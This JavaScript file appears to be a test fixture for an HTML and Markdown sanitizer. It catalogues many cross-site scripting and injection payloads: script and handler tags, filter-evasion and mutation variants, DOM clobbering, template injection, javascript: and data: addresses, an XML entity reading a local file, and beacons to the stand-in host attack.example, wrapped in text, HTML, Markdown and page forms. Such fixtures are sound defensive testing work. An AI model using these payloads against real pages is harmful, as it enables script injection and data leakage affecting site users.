// Ways in which markup and addresses in a text try to run or to fetch something in the page that shows it: each class
// once or twice, with the reason why it might work. `run` is what an attack wants to run; `home` where it wants to
// be heard.

export const home = 'https://attack.example';
/** @param {string} name */
const run = (name) => `top.ran='${name}'`;
/** @param {string} name */
const image = (name) => `<img src="${home}/${name}.png" onerror="${run(name)}">`;

/** [name, why it might work, source] */
export const markup = [
  // Elements that run.
  ['script', 'the plain case', `<script>${run('script')}</script>`],
  ['script-from', 'the script comes from elsewhere', `<script src="${home}/script.js"></script>`],
  ['script-odd', 'case and a slash instead of a space get past patterns', `<ScRiPt/x>${run('script-odd')}</sCrIpT/x>`],
  ['script-doubled', 'taking "<script>" out once leaves another', `<scr<script>ipt>${run('script-doubled')}</scr</script>ipt>`],
  ['script-map', 'modules may be mapped to elsewhere', `<script type="importmap">{"imports":{"./readers.js":"${home}/map.js"}}</script>`],
  [
    'script-rules',
    'rules for speculation fetch by themselves',
    `<script type="speculationrules">{"prefetch":[{"urls":["${home}/rules"]}]}</script>`,
  ],
  [
    'script-data',
    'meta data are read as JSON, and may hold markup',
    `<script type="application/ld+json">{"@type":"NewsArticle","headline":"</p>${image('data').replaceAll('"', '\\"')}"}</script>`,
  ],
  ['svg-script', 'another namespace has scripts of its own', `<svg><script>${run('svg-script')}</script></svg>`],
  ['object', 'plugins and documents inside', `<object data="javascript:${run('object')}"></object><embed src="${home}/embed.swf">`],
  ['frame', 'a document inside, by an address that is a program', `<iframe src="javascript:${run('frame')}"></iframe>`],
  ['frame-source', 'a document inside, by its source', `<iframe srcdoc="&lt;script&gt;${run('frame-source')}&lt;/script&gt;"></iframe>`],
  // Handlers.
  ['image-error', 'a picture that fails calls a handler', image('image-error')],
  ['image-bare', 'no quotes, no spaces, a slash between', `<img/src=x/onerror=${run('image-bare').replaceAll("'", '&#39;')}>`],
  ['image-entity', 'a handler hidden in character references', `<img src=x onerror="&#116;op.ran&equals;1">`],
  ['svg-load', 'loads at once, without a file', `<svg onload="${run('svg-load')}"></svg>`],
  [
    'svg-animate',
    'an animation sets an address',
    `<svg><a><animate attributeName="href" values="javascript:${run('svg-animate')}"/><text>x</text></a></svg>`,
  ],
  ['body-load', 'the body has handlers too', `<body onload="${run('body-load')}" onpageshow="${run('body-load')}">`],
  ['focus', 'a field takes the focus by itself', `<input autofocus onfocus="${run('focus')}">`],
  ['toggle', 'opens by itself', `<details open ontoggle="${run('toggle')}"><summary>x</summary></details>`],
  [
    'media',
    'a source that fails',
    `<video poster="${home}/poster"><source src="${home}/v.mp4" onerror="${run('media')}"></video><audio src=x onerror="${run('media')}"></audio>`,
  ],
  [
    'animation',
    'styles start handlers',
    `<style>@keyframes a{}</style><b style="animation:a 1s" onanimationstart="${run('animation')}">x</b>`,
  ],
  [
    'popover',
    'newer handlers that old lists lack',
    `<b popover onbeforetoggle="${run('popover')}" oncontentvisibilityautostatechange="${run('popover')}">x</b>`,
  ],
  ['marquee', 'old elements with handlers', `<marquee onstart="${run('marquee')}">x</marquee>`],
  // Elements that fetch.
  [
    'picture',
    'a picture tells that it was seen',
    `<img src="${home}/seen" srcset="${home}/seen2 2x" lowsrc="${home}/seen3"><picture><source srcset="${home}/seen4"></picture>`,
  ],
  [
    'link',
    'style sheets, icons, things fetched early',
    ['stylesheet', 'icon', 'prefetch', 'preload', 'dns-prefetch', 'manifest', 'modulepreload']
      .map((rel) => `<link rel="${rel}" href="${home}/${rel}" as="script">`)
      .join(''),
  ],
  [
    'style',
    'styles import and draw from elsewhere',
    `<style>@import "${home}/import.css"; body{background:url(${home}/style)}</style><p style="background:url('${home}/inline')">x</p>`,
  ],
  ['background', 'an old attribute that fetches', `<table background="${home}/table"><td background="${home}/cell">x</table>`],
  ['refresh', 'goes elsewhere by itself', `<meta http-equiv="refresh" content="0;url=${home}/refresh">`],
  ['base', 'bends all addresses that come after', `<base href="${home}/">`],
  ['form', 'sends at a click, or Enter', `<form action="${home}/form"><button formaction="javascript:${run('form')}">x</button></form>`],
  ['ping', 'a link tells of the click', `<a href="#" ping="${home}/ping">x</a>`],
  [
    'use',
    'draws from another document',
    `<svg><use href="${home}/use.svg#x"/><image href="${home}/image.svg"/><feImage href="${home}/fe"/></svg>`,
  ],
  [
    'element',
    'the page knows an element that fetches by itself',
    `<story-diff left-src="${home}/left" right-src="${home}/right"></story-diff>`,
  ],
  ['dangling', 'an attribute left open swallows what comes after', `<img src='${home}/dangling?`],
  // Parsers that disagree.
  ['comment', 'where a comment ends is read in two ways', `<!--><img src=x onerror="${run('comment')}">-->`],
  ['comment-bang', 'a comment that ends with a bang', `<!-- --!><img src=x onerror="${run('comment-bang')}"> -->`],
  ['cdata', 'CDATA means something only inside SVG', `<svg><![CDATA[><img src=x onerror="${run('cdata')}">]]></svg>`],
  [
    'noscript',
    'read one way with scripts, another without',
    `<noscript><p title="</noscript><img src=x onerror=${run('noscript')}>"></noscript><noscript>${image('noscript-image')}</noscript>`,
  ],
  ['title', 'leaves an element that holds only text', `<title></title><img src=x onerror="${run('title')}"></title>`],
  ['textarea', 'the same, of a field', `<textarea></textarea><img src=x onerror="${run('textarea')}"></textarea>`],
  [
    'template',
    'hidden from those who look, there for those who copy',
    `<template>${image('template')}</template><template shadowrootmode="open">${image('shadow')}</template>`,
  ],
  [
    'mutation',
    'harmless as parsed, not when written and parsed again',
    `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;/mglyph&gt;&lt;img src=1 onerror=${run('mutation')}&gt;">`,
  ],
  [
    'mutation-form',
    'forms cannot be nested, except like this',
    `<form><math><mtext></form><form><mglyph><style></math><img src=x onerror="${run('mutation-form')}">`,
  ],
  ['foster', 'a table puts out what it cannot hold', `<table><script>${run('foster')}</script><tr>${image('foster')}</table>`],
  [
    'xml',
    'an entity of the document type names a file',
    `<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/hostname">]><x>&e;</x>`,
  ],
  // Names that the page's own program may look up.
  [
    'clobber',
    'an id or a name becomes a global of the window',
    `<form id="app"><input name="querySelector"></form><a id="storydiffParts" href="${home}/parts"></a><img name="storydiffPage"><img name="currentScript">`,
  ],
  [
    'lit',
    'marks by which templates find their places',
    `<!--?lit$0$--><b \${run}="{{lit-0}}" @click="x" .innerHTML="${run('lit')}">lit$1$</b><?lit$000000001$>`,
  ],
  ['braces', 'templates of other kinds', `{{constructor.constructor("${run('braces')}")()}} \${top.ran=1} <%= top.ran=1 %> #{top.ran=1}`],
  [
    'replace',
    'signs with a meaning where text is put in for text',
    `$& $\` $' $1 $$ \\u003cscript\\u003e${run('replace')}\\u003c/script\\u003e`,
  ],
  [
    'bytes',
    'a character that parsers drop, one that turns the line round',
    `<scr\u0000ipt>${run('bytes')}</scr\u0000ipt>\u202e<img src=x one\u0000rror="${run('bytes')}">`,
  ],
];

/** [why it might work, address] */
export const addresses = [
  ['a program', `javascript:${run('address')}`],
  ['in other letters', `jAvAsCrIpT:${run('address')}`],
  ['a tab inside', `java\tscript:${run('address')}`],
  ['a line end inside', `java\nscript:${run('address')}`],
  ['a control character before', `\u0001javascript:${run('address')}`],
  ['character references', `&#106;avascript&colon;${run('address')}`],
  ['behind a comment that looks like a host', `javascript://attack.example/%0a${run('address')}`],
  ['another language', 'vbscript:msgbox(1)'],
  ['a page in an address', `data:text/html,<script>${run('address')}</script>`],
  ['a picture that has scripts', `data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="${run('address')}"/>`],
  ['a file of the reader', 'file:///etc/hostname'],
  ['no scheme', '//attack.example/no-scheme'],
  ['slashes the other way', '\\\\attack.example\\share'],
  ['one slash', 'https:attack.example/one'],
  ['a name before the host', `https://news.example@attack.example/`],
  ['a source of the browser', `view-source:${home}/`],
];

/** @param {number} i */
const sentence = (i) => `The clerk of Orlova read item ${i + 1} of the list aloud and went on to the next.`;

/** Text that would be an attack if anything took it for markup: a paragraph each. */
export const asText = [...markup.map(([, , source]) => source), ...addresses.map(([, address]) => address)].map(
  (source, i) => `${sentence(i)} ${source.replace(/\s+/g, ' ')}`,
);

/** @param {string} text */
const escaped = (text) => text.replace(/&/g, '&amp;').replace(/</g, '&lt;').replace(/"/g, '&quot;');

/** Each attack as it is, and once more as the text of a paragraph, so that it comes back when that is parsed twice. */
export const asHtml = [
  ...asText.map((text) => `<p>${escaped(text)}</p>`),
  ...addresses.map(([, address], i) => `<p>${sentence(i)} <a href="${escaped(address)}">read on</a> <img src="${escaped(address)}"></p>`),
  ...markup.map(([, , source], i) => `<p>${sentence(i)} ${source}</p>`),
].join('\n');

/** The same where Markdown has a form of its own for it. */
export const asMarkdown = [
  ...asText,
  ...addresses.map(
    ([, address], i) =>
      `${sentence(i)} [read on](${address}) ![seen](${address}) <${address}> [by name][n${i}]\n\n[n${i}]: ${address} "${address}"`,
  ),
  ...markup.map(([, , source]) => source.replace(/\n+/g, ' ')),
].join('\n\n');

/** A saved page of it; the name of the site is an attack as well. */
export const asPage = `<!doctype html><html lang="en"><head><meta charset="utf-8"><title>The list ${escaped(image('title'))}</title>
<meta property="og:site_name" content="${escaped(image('site'))}"><meta name="author" content="${escaped(image('author'))}">
</head><body><article><h1>The list of Orlova ${escaped(image('heading'))}</h1>${asHtml}</article></body></html>`;
